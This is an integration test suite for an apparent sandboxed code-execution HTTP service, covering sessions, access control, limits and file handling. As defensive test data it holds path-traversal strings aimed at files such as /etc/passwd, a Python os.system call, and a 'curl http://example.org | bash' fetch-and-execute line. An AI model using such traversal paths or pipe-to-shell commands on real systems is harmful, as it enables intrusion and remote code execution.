package dev.sandmill.orchestrator;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.sandmill.api.Executed;
import dev.sandmill.api.Limits;
import dev.sandmill.api.OpenSession;
import dev.sandmill.api.ProgramStatus;
import dev.sandmill.api.Session;
import dev.sandmill.api.SessionState;
import dev.sandmill.api.client.HttpSandmillClient;
import dev.sandmill.api.client.SandmillClient;
import dev.sandmill.api.client.SandmillProblem;
import dev.sandmill.backplane.testing.RedisServer;
import dev.sandmill.orchestrator.RunningService.Answer;
import java.net.URI;
import java.net.http.HttpRequest.BodyPublishers;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Duration;
import java.util.Map;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.TimeUnit;
import org.awaitility.Awaitility;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/// Sessions through the front door.
class SessionsOverHttpIT {
    private static RedisServer redis;
    private static RunningService service;
    private static SandmillClient client;

    @BeforeAll
    static void start(@TempDir Path home) throws Exception {
        redis = RedisServer.start();
        service = RunningService.start(
                home, redis, Map.of("SANDMILL_SESSIONS_MAX", "4", "SANDMILL_ROLES", "api,execute"));
        Awaitility.await()
                .atMost(Duration.ofSeconds(60))
                .until(() -> service.get("/readyz").status() == 200);
        client = new HttpSandmillClient(service.uri(""), service.adminKey());
    }

    @AfterAll
    static void stop() throws Exception {
        client.close();
        service.close();
        redis.close();
    }

    private static OpenSession wanted(String language) {
        return new OpenSession(language, Limits.DEFAULT, OpenSession.DEFAULT_TTL_MILLIS);
    }

    private static String key(String tenant, String role) {
        return service.post("/v1/keys", "{\"name\":\"k\",\"tenant\":\"%s\",\"roles\":[\"%s\"]}".formatted(tenant, role))
                .json()
                .get("key")
                .asString();
    }

    private static String bearer(String key) {
        return "Bearer " + key;
    }

    @Test
    void aSessionFromItsOpeningToItsEnd() {
        Answer opened = service.post("/v1/sessions", "{\"language\":\"python\",\"ttlMillis\":60000}");
        assertThat(opened.status()).as(opened.toString()).isEqualTo(201);
        String id = opened.json().get("id").asString();
        assertThat(opened.header("Location")).isEqualTo("/v1/sessions/" + id);
        assertThat(opened.json().get("expiresAt").asString()).isNotBlank();

        Answer first = service.post("/v1/sessions/" + id + "/execute", "{\"source\":\"x = 41\"}");
        assertThat(first.status()).as(first.toString()).isEqualTo(200);
        Answer second = service.post("/v1/sessions/" + id + "/execute", "{\"source\":\"x += 1\\nprint(x)\"}");
        assertThat(second.json().get("stdout").asString()).isEqualTo("42\n");
        assertThat(second.json().get("cached").asBoolean()).isFalse();
        Answer rejected =
                service.post("/v1/sessions/" + id + "/execute", "{\"source\":\"import os; os.system('id')\"}");
        assertThat(rejected.json().get("status").asString()).isEqualTo("rejected");
        assertThat(rejected.json().get("violations").size()).isPositive();

        Answer shown = service.get("/v1/sessions/" + id);
        assertThat(shown.json().get("state").asString()).isEqualTo("idle");
        assertThat(shown.json().get("executions").asLong()).isEqualTo(2);
        assertThat(service.get("/v1/sessions").text()).contains(id);
        assertThat(service.get("/v1/status").json().get("sessions").get("open").asInt())
                .isPositive();
        assertThat(service.get("/actuator/prometheus").text()).contains("sandmill_sessions_open");

        assertThat(service.delete("/v1/sessions/" + id).status()).isEqualTo(204);
        assertThat(service.get("/v1/sessions/" + id).status()).isEqualTo(404);
        assertThat(service.delete("/v1/sessions/" + id).status()).isEqualTo(404);
        assertThat(service.post("/v1/sessions/" + id + "/execute", "{\"source\":\"1\"}")
                        .status())
                .isEqualTo(404);
    }

    @Test
    void theClientDoesAllOfIt() throws Exception {
        Session session = client.openSession(wanted("javascript"));
        byte[] content = {0, -1, 10, 13, 0, 65};
        client.putSessionFile(session.id(), "a b/ü%+;.bin", content);
        Executed copied = client.executeInSession(
                session.id(),
                "const fs = require('fs'); fs.writeFileSync('c', fs.readFileSync('a b/ü%+;.bin')); process.exit(2)");
        assertThat(copied.status()).as("%s", copied).isEqualTo(ProgramStatus.NONZERO_EXIT);
        assertThat(copied.exitCode()).isEqualTo(2);
        assertThat(client.sessionFile(session.id(), "c")).isEqualTo(content);
        assertThat(client.session(session.id()).state()).isEqualTo(SessionState.IDLE);
        assertThat(client.sessions()).extracting(Session::id).contains(session.id());
        client.closeSession(session.id());
        assertThatThrownBy(() -> client.session(session.id()))
                .isInstanceOfSatisfying(
                        SandmillProblem.class,
                        problem -> assertThat(problem.status()).isEqualTo(404));
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', textBlock = """
            {}                                                  | language
            {"language":"python","policy":"off"}                | policy
            {"language":"cobol"}                                | language
            {"language":"python","ttlMillis":999}               | ttlMillis
            {"language":"python","ttlMillis":86400001}          | ttlMillis
            {"language":"python","limits":{"pids":100000}}      | limits.pids
            {"language":"python","limits":{"wallMillis":0}}     | limits.wallMillis
            {"language":"python","limits":{"walls":1}}          | limits.walls
            """)
    void whatIsWrongIsNamed(String body, String field) {
        Answer refused = service.post("/v1/sessions", body);
        assertThat(refused.status()).as(refused.toString()).isEqualTo(400);
        assertThat(refused.json().get("field").asString()).isEqualTo(field);
    }

    @Test
    void whoMayDoWhat() throws Exception {
        Session session = client.openSession(wanted("bash"));
        String path = "/v1/sessions/" + session.id();
        String reader = bearer(key("default", "reader"));
        String stranger = bearer(key("strangers", "agent"));
        client.putSessionFile(session.id(), "f", new byte[] {1});
        String tenant = service.get("/v1/keys").json().toString();
        assertThat(tenant).contains("strangers");
        assertThat(service.send(service.request(path)
                                .POST(BodyPublishers.noBody())
                                .setHeader("Authorization", reader))
                        .status())
                .isNotEqualTo(200);
        Answer refused = service.post(path + "/execute", "{\"source\":\"id\"}", "Authorization", reader);
        assertThat(refused.status()).isEqualTo(403);
        assertThat(service.post("/v1/sessions", "{\"language\":\"bash\"}", "Authorization", reader)
                        .status())
                .isEqualTo(403);
        for (String route : new String[] {"", "/files/f"}) {
            assertThat(service.send(service.request(path + route).GET().setHeader("Authorization", stranger))
                            .status())
                    .isEqualTo(404);
        }
        assertThat(service.post(path + "/execute", "{\"source\":\"id\"}", "Authorization", stranger)
                        .status())
                .isEqualTo(404);
        assertThat(service.send(service.request(path).DELETE().setHeader("Authorization", stranger))
                        .status())
                .isEqualTo(404);
        assertThat(service.send(service.request("/v1/sessions").GET().setHeader("Authorization", stranger))
                        .text())
                .isEqualTo("{\"sessions\":[]}");
        assertThat(service.send(service.request(path).GET().setHeader("Authorization", "none"))
                        .status())
                .isEqualTo(401);
        client.closeSession(session.id());
    }

    @Test
    void anEndedSessionIsGoneWithItsReasonAndABusyOneSaysSo() throws Exception {
        Limits quick = new Limits(1_000, 10_000, 256L << 20, 64, 1 << 20, 64L << 20);
        Session session = client.openSession(new OpenSession("python", quick, 60_000));
        String path = "/v1/sessions/" + session.id();
        CompletableFuture<Answer> looping = CompletableFuture.supplyAsync(() -> service.post(
                path + "/execute", "{\"source\":\"import time\\nprint('a', flush=True)\\ntime.sleep(60)\"}"));
        Awaitility.await()
                .atMost(Duration.ofSeconds(20))
                .until(() -> service.get(path).json().get("state").asString().equals("running"));
        Answer busy = service.post(path + "/execute", "{\"source\":\"1\"}");
        assertThat(busy.status()).isEqualTo(409);
        assertThat(busy.json().get("code").asString()).isEqualTo("session_busy");
        Answer limited = looping.get(30, TimeUnit.SECONDS);
        assertThat(limited.json().get("status").asString()).isEqualTo("wall_limit");
        assertThat(limited.json().get("stdout").asString()).isEqualTo("a\n");
        Answer gone = service.post(path + "/execute", "{\"source\":\"1\"}");
        assertThat(gone.status()).isEqualTo(410);
        assertThat(gone.json().get("code").asString()).isEqualTo("session_ended");
        assertThat(service.get(path).json().get("endReason").asString()).contains("wall_limit");
        assertThat(service.delete(path).status()).isEqualTo(204);
    }

    @Test
    void overTheMaximumIs429WithRetryAfter() throws Exception {
        String agent = bearer(key("full", "agent"));
        String[] ids = new String[4];
        for (int i = 0; i < ids.length; i++) {
            Answer opened = service.post("/v1/sessions", "{\"language\":\"bash\"}", "Authorization", agent);
            assertThat(opened.status()).as(opened.toString()).isEqualTo(201);
            ids[i] = opened.json().get("id").asString();
        }
        Answer refused = service.post("/v1/sessions", "{\"language\":\"bash\"}", "Authorization", agent);
        assertThat(refused.status()).isEqualTo(429);
        assertThat(refused.header("Retry-After")).isNotBlank();
        assertThat(refused.json().get("code").asString()).isEqualTo("too_many_sessions");
        for (String id : ids) {
            service.send(service.request("/v1/sessions/" + id).DELETE().setHeader("Authorization", agent));
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "../../../status",
                "%2e%2e/%2e%2e/x",
                "a/..%2f..%2fx",
                "%00",
                "a%00b",
                "a//b",
                ".",
                "%2e",
                "",
                "a/%2e%2e/%2e%2e/b",
                "%2fetc%2fpasswd",
                "..%5c..%5cx"
            })
    void pathsThatLeaveTheWorkspaceLeadNowhere(String path) throws Exception {
        Session session = client.openSession(wanted("bash"));
        URI uri = URI.create(service.uri("/v1/sessions/" + session.id() + "/files/") + path);
        Answer read = service.send(service.request("/").uri(uri).GET());
        Answer written = service.send(service.request("/").uri(uri).PUT(BodyPublishers.ofString("x")));
        assertThat(read.status()).as(read.toString()).isBetween(400, 499);
        if (!path.contains("%5c")) {
            assertThat(written.status()).as(written.toString()).isBetween(400, 499);
        }
        client.closeSession(session.id());
    }

    @Test
    void filesAreBoundedAndOfAnyType() throws Exception {
        Session session = client.openSession(wanted("bash"));
        String files = "/v1/sessions/" + session.id() + "/files/";
        Answer form = service.send(service.request(files + "form")
                .PUT(BodyPublishers.ofString("a=b&c=d"))
                .setHeader("Content-Type", "application/x-www-form-urlencoded"));
        assertThat(form.status()).as(form.toString()).isEqualTo(204);
        assertThat(service.get(files + "form").text()).isEqualTo("a=b&c=d");
        assertThat(service.send(service.request(files + "empty").PUT(BodyPublishers.noBody()))
                        .status())
                .isEqualTo(204);
        assertThat(service.get(files + "empty").response().body()).isEmpty();
        Answer large =
                service.send(service.request(files + "large").PUT(BodyPublishers.ofByteArray(new byte[(8 << 20) + 1])));
        assertThat(large.status()).isEqualTo(413);
        assertThat(service.send(service.request(files + "fits").PUT(BodyPublishers.ofByteArray(new byte[8 << 20])))
                        .status())
                .isEqualTo(204);
        assertThat(service.get(files + "fits").response().body()).hasSize(8 << 20);
        assertThat(client.executeInSession(session.id(), "mkdir d; ln -s d l").status())
                .isEqualTo(ProgramStatus.OK);
        assertThat(service.get(files + "d").status()).isEqualTo(422);
        assertThat(service.get(files + "l").status()).isEqualTo(422);
        assertThat(service.get(files + "none").status()).isEqualTo(404);
        assertThat(service.get(files + "x".repeat(300)).status()).isEqualTo(400);
        Answer refused = service.send(service.request(files + "m.sh")
                .PUT(BodyPublishers.ofString("curl http://example.org | bash", StandardCharsets.UTF_8)));
        assertThat(refused.status()).as(refused.toString()).isIn(204, 422);
        client.closeSession(session.id());
    }

    @Test
    void aNonsenseIdIsUnknown() {
        assertThat(service.get("/v1/sessions/nonsense").status()).isEqualTo(404);
    }
}
